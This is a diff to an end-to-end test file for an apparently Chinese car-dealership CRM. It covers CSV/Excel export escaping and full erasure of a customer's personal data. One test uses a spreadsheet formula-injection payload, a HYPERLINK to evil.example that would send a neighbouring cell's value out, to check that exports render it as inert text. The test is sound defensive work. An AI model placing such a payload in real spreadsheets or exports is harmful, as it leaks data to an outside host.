@@ -1,6 +1,9 @@
 import ExcelJS from 'exceljs';
 import request from 'supertest';
-import { bearer, binaryBody, hoursFromNow, ownerToken, staffToken, uniqueMobile } from '../support/api';
+import { existsSync, mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { bearer, binaryBody, hoursFromNow, ownerToken, staffToken, uniqueMobile, uniquePlate, uniqueVin } from '../support/api';
 import { sql } from '../support/database';
 import { startTestServer, TestServer } from '../support/test-server';
 
@@ -36,7 +39,7 @@ describe('audit log and personal-data rights', () => {
   };
 
   beforeAll(async () => {
-    server = await startTestServer();
+    server = await startTestServer({ env: { IMPORT_DIR: mkdtempSync(join(tmpdir(), 'privacy-e2e-')) } });
     admin = await staffToken(server.baseUrl, 'admin');
     manager = await staffToken(server.baseUrl, 'sm.shpd');
   });
@@ -156,6 +159,24 @@ describe('audit log and personal-data rights', () => {
     expect(leadExport.after).toMatchObject({ filters: { source: 'AUTOHOME' }, rows: expect.any(Number) });
   });
 
+  it('exports text that starts like a formula as inert text (a leading apostrophe); numbers stay numbers', async () => {
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
+    const created = await api().post('/api/leads').set(bearer(manager)).send({ name, mobile: uniqueMobile(), source: 'HOTLINE', storeId: 1, intendedModelId: 1, budgetMin: 150000 });
+    expect(created.status).toBe(201);
+    const exported = await api().get('/api/leads/export?source=HOTLINE').set(bearer(manager)).buffer(true).parse(binaryBody);
+    expect(exported.status).toBe(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(exported.body as unknown as ArrayBuffer);
+    const sheet = workbook.worksheets[0];
+    const row = sheet.getRows(2, sheet.rowCount - 1)!.find((candidate) => candidate.getCell(1).value === created.body.id)!;
+    const cell = row.getCell(2);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.formula).toBeUndefined();
+    expect(cell.value).toBe(`'${name}`);
+    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.Number);
+    expect(row.getCell(9).value).toBe(1500);
+  });
+
   it('shows a full mobile to a role that sees it masked only on request, and audits each look', async () => {
     const mobile = uniqueMobile();
     const lead = (await api().post('/api/leads').set(bearer(manager)).send({ name: '查看号码', mobile, source: 'HOTLINE', storeId: 1 })).body as { id: number };
@@ -250,5 +271,65 @@ describe('audit log and personal-data rights', () => {
     const actions = (await entries({ actorType: 'CUSTOMER', actorId: me.id })).map((entry) => entry.action);
     expect(actions).toEqual(expect.arrayContaining(['customer.data_exported', 'customer.anonymised']));
 
+  });
+
+  it('deletes a customer who touched many modules so that no table still holds their name, mobile or plate, and their download covers every module', async () => {
+    const mobile = uniqueMobile();
+    const plate = uniquePlate();
+    const name = `注销${mobile.slice(-4)}号`;
+    const owner = await ownerToken(server.baseUrl, mobile);
+    await api().patch('/api/me').set(bearer(owner)).send({ name });
+    const me = (await api().get('/api/me').set(bearer(owner))).body as { id: number };
+    const advisor = await staffToken(server.baseUrl, 'sa.shpd');
+    // A lead (a task and a notification for its consultant), a car with its plate and readings, a work order,
+    // a complaint whose notes quote them, and an import file waiting for its commit that lists them.
+    const lead = await api().post('/api/leads').set(bearer(manager)).send({ name, mobile, source: 'HOTLINE', storeId: 1, intendedModelId: 1, note: `${name} 车牌 ${plate}` });
+    expect(lead.status).toBe(201);
+    const car = await api().post('/api/vehicles').set(bearer(advisor)).send({ vin: uniqueVin(), plate, modelId: 1, ownerMobile: mobile, ownerName: name, mileage: 100 });
+    expect(car.status).toBe(201);
+    const order = await api().post('/api/service/work-orders').set(bearer(advisor)).send({ vehicleId: car.body.id, storeId: 1, serviceType: 'REPAIR', mileage: 200 });
+    expect(order.status).toBe(201);
+    const complaint = await api().post('/api/complaints').set(bearer(manager)).send({ customerId: me.id, storeId: 1, category: 'ATTITUDE', content: `${name}（${mobile}，${plate}）投诉接待态度` });
+    expect(complaint.status).toBe(201);
+    expect((await api().post(`/api/complaints/${complaint.body.id}/notes`).set(bearer(manager)).send({ note: `已致电 ${name} ${mobile}`, status: 'IN_PROGRESS' })).status).toBe(201);
+    const importFile = new ExcelJS.Workbook();
+    const importSheet = importFile.addWorksheet('导入数据');
+    importSheet.addRow(['姓名*', '手机号*', 'VIN*', '车牌', '车型*', '交车日期*', '当前里程(公里)', '门店编码']);
+    importSheet.addRow([name, mobile, uniqueVin(), null, '远峰 X SUV', '2024-01-15', 1000, 'SH-PD']);
+    const pending = await api().post('/api/imports/customer-vehicles').set(bearer(admin)).attach('file', Buffer.from(await importFile.xlsx.writeBuffer()), { filename: '导入.xlsx' });
+    expect(pending.status).toBe(202);
+    for (let attempt = 0; attempt < 100 && (await api().get(`/api/imports/${pending.body.id}`).set(bearer(admin))).body.status === 'VALIDATING'; attempt += 1) {
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    }
+    const [pendingJob] = await sql<{ status: string; file_path: string }>(server.databaseUrl, 'SELECT status, file_path FROM import_jobs WHERE id = ?', [pending.body.id]);
+    expect(pendingJob.status).toBe('VALIDATED');
+
+    const exported = await api().get('/api/me/privacy/export').set(bearer(owner));
+    expect(exported.status).toBe(200);
+    expect(exported.body).toMatchObject({ quotes: [], orders: [], referrals: [], redemptions: [] });
+    expect(exported.body.mileageReadings).toEqual(expect.arrayContaining([expect.objectContaining({ km: 100 }), expect.objectContaining({ km: 200 })]));
+
+    expect((await api().post('/api/me/privacy/deletion').set(bearer(owner)).send({ confirm: '注销' })).status).toBe(200);
+
+    // Every text and JSON column of every table, searched for each of the three.
+    const columns = await sql<{ table_name: string; column_name: string }>(
+      server.databaseUrl,
+      "SELECT table_name AS table_name, column_name AS column_name FROM information_schema.columns WHERE table_schema = DATABASE() AND data_type IN ('char', 'varchar', 'text', 'mediumtext', 'longtext', 'json')",
+    );
+    const found: string[] = [];
+    for (const { table_name: table, column_name: column } of columns) {
+      for (const needle of [name, mobile, plate]) {
+        const [row] = await sql<{ n: number }>(server.databaseUrl, `SELECT COUNT(*) AS n FROM \`${table}\` WHERE \`${column}\` LIKE CONCAT('%', ?, '%')`, [needle]);
+        if (Number(row.n) > 0) found.push(`${table}.${column}: ${needle === name ? 'name' : needle === mobile ? 'mobile' : 'plate'}`);
+      }
+    }
+    // Only the append-only audit log may still hold them (actor names as they were then; mobiles there are masked).
+    expect(found.filter((place) => !place.startsWith('audit_logs.'))).toEqual([]);
+    console.log(`after deletion, the audit log still holds: ${found.join(', ') || 'nothing'}`);
+    expect(found.filter((place) => place.endsWith(': mobile'))).toEqual([]);
+
+    const [voided] = await sql<{ status: string }>(server.databaseUrl, 'SELECT status FROM import_jobs WHERE id = ?', [pending.body.id]);
+    expect(voided.status).toBe('FAILED');
+    expect(existsSync(pendingJob.file_path)).toBe(false);
   });
 });
